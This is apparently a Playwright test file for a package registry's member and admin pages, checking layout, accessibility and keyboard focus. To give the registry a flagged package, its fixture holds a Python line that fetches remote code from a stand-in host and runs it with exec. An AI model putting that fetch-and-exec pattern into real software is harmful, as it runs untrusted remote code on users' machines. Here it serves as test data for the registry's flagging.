import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { Page } from 'playwright-core'
import { createPublisherFor, createTokenFor } from '../server/src/operator/publishers.ts'
import { publish } from '../server/test/command-line-client.ts'
import { buildPack } from '../server/test/pack.ts'
import { adminPaths } from '../web/src/admin/kit/admin-paths.ts'
import { managePaths } from '../web/src/ground/paths/manage-links.ts'
import { memberPaths } from '../web/src/ground/paths/member-links.ts'
import { paths } from '../web/src/ground/paths/paths.ts'
import { isWalkedByKeyboard } from './keyboard.ts'
import { fitsItsWidth, hidesNothing } from './looks.ts'
import { signUp } from './people.ts'
import { type Product, useProduct } from './product.ts'

const holder = useProduct({}, {}, fillRegistry)

/** Longer than any column and without a line break opportunity. */
const longName = 'Extraordinarily'.repeat(6)
const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'

/** Creates a publisher with a flagged second version of a node, and content on every admin page. */
async function fillRegistry({ world, apiUrl }: Product): Promise<void> {
  const { given } = world
  await createPublisherFor(world.deps, {
    id: 'lumen',
    name: longName,
    description: '',
    ownerEmail: 'owner@lumen.test',
  })
  const token = await createTokenFor(world.deps, 'lumen', 'CI')
  for (const [version, files] of Object.entries({ '1.0.0': {}, '1.1.0': { 'helper.py': suspicious } })) {
    const archive = buildPack({ id: 'soft-blur', version, files })
    const node = { name: longName, description: 'Blurs pictures softly.' }
    await publish({ apiUrl, publisherId: 'lumen', nodeId: 'soft-blur', token, version, node, archive })
    await world.runJobs()
  }
  const unclaimed = 'admin-11338bd3-f081-43cf-b3f9-295c829826f7'
  const other = await given.publisher({ id: 'northern-lights', name: 'Northern Lights' })
  for (let count = 10; count < 36; count++) {
    await given.node({
      id: `sharpen-${count}`,
      name: `Sharpen ${count}`,
      publisher_id: other.id,
      downloads: count ** 4,
    })
    await given.node({ id: `listed-${count}`, name: `Listed ${count}`, publisher_id: unclaimed })
  }
  await given.report({ node_id: 'soft-blur', text: `It reads my keys, and says ${longName}.` })
  await given.report({ node_id: 'sharpen-10', kind: 'broken', text: 'It does not start.' })
  await given.advisory({ id: 'NYSA-2026-0001', node_id: 'soft-blur' })
  await given.rescan()
  await given.transfer({ node_id: 'sharpen-11', from: other.id, to: 'lumen' })
  await given.invitation({ publisher_id: 'lumen' })
  await given.webhook({ publisher_id: 'lumen' })
  world.allowFailedJobs(/^It failed\.$/)
  await given.failedJob()
}

const ids: Record<string, string> = {
  nodeId: 'soft-blur',
  publisherId: 'lumen',
  version: '1.1.0',
  userId: 'nobody',
  advisoryId: 'NYSA-2026-0001',
  collectionId: '0123456789ab',
}
const withIds = (path: string) => path.replace(/:(\w+)/g, (_, name: string) => ids[name] ?? name)

const { account, ownNodes, createPublisher, managePublisher, publisherTokens, trustedPublishing } = paths
const { claimNode, howToPublish, admin } = paths
const ofMembers = [
  ...[account, ownNodes, createPublisher, managePublisher, publisherTokens, trustedPublishing],
  ...[claimNode, howToPublish, admin],
  ...Object.values(memberPaths),
  ...Object.values(managePaths),
  ...Object.values(adminPaths),
].map(withIds)

const looks = [
  { locale: 'en', colorScheme: 'light', width: 1440 },
  { locale: 'ar', colorScheme: 'dark', width: 360 },
] as const

const isThorough = process.env['EVERY_LOOK'] === '1'
/** One look per page, both with `npm run lab -- looks`. */
const looksOf = (index: number) => (isThorough ? looks : [looks[index % looks.length]])
/** Every fifth page, or all of them with `npm run lab -- looks`. */
const isWalked = (index: number) => isThorough || index % 5 === 0

describe('the pages of members and admins', () => {
  it('fit their width, are accessible and can be used by keyboard', async () => {
    assert.ok(ofMembers.length > 25)
    const { page } = await holder.product.visit({ expectedComplaints: /40[34]/ })
    const email = await signUp(page, '/account')
    const { deps, given } = holder.product.world
    const user = await deps.db
      .updateTable('users')
      .set({ is_admin: true })
      .where('email', '=', email)
      .returning('id')
      .executeTakeFirstOrThrow()
    await given.member({ publisher_id: 'lumen', user_id: user.id, role: 'owner' })
    const collection = { id: ids['collectionId'] ?? '', owner_id: user.id, title: longName }
    await given.collection(collection, [{ node_id: 'soft-blur', note: 'Blurs softly.' }])
    for (const [index, path] of ofMembers.entries()) {
      for (const { locale, colorScheme, width } of looksOf(index).flatMap((look) => look ?? [])) {
        await page.emulateMedia({ colorScheme })
        await page.setViewportSize({ width, height: 900 })
        await page.goto(locale === 'en' ? path : `/ar${path}`)
        await settled(page)
        await holder.product.picture(page, `member${path.replaceAll('/', '-')}-${locale}`)
        await fitsItsWidth(page, path)
        await hidesNothing(page, path)
        if (isWalked(index)) await isWalkedByKeyboard(page, path)
      }
    }
  })

  /** Waits until the page is shown and loads nothing. */
  async function settled(page: Page): Promise<void> {
    await page.getByRole('heading', { level: 1 }).first().waitFor()
    await page.waitForFunction(() => !document.querySelector('main .spinner, main [aria-busy=true]'))
  }

  it('keep the focus in an open dialog, and return it afterwards', async () => {
    const { page } = await holder.product.visit()
    await signUp(page, '/account')
    const opener = page.getByRole('button', { name: 'Delete my account' })
    const dialog = page.getByRole('dialog')
    const isInside = () => dialog.evaluate((element) => element.contains(document.activeElement))
    for (const leave of [
      () => page.keyboard.press('Escape'),
      () => dialog.getByText('Cancel').press('Enter'),
    ]) {
      await opener.press('Enter')
      await dialog.waitFor()
      for (let press = 0; press < 6; press++) {
        await page.keyboard.press('Tab')
        assert.ok((await isInside()) || (await page.evaluate(() => document.activeElement === document.body)))
      }
      await leave()
      await dialog.waitFor({ state: 'detached' })
      assert.ok(await opener.evaluate((element) => element === document.activeElement))
    }
  })
})
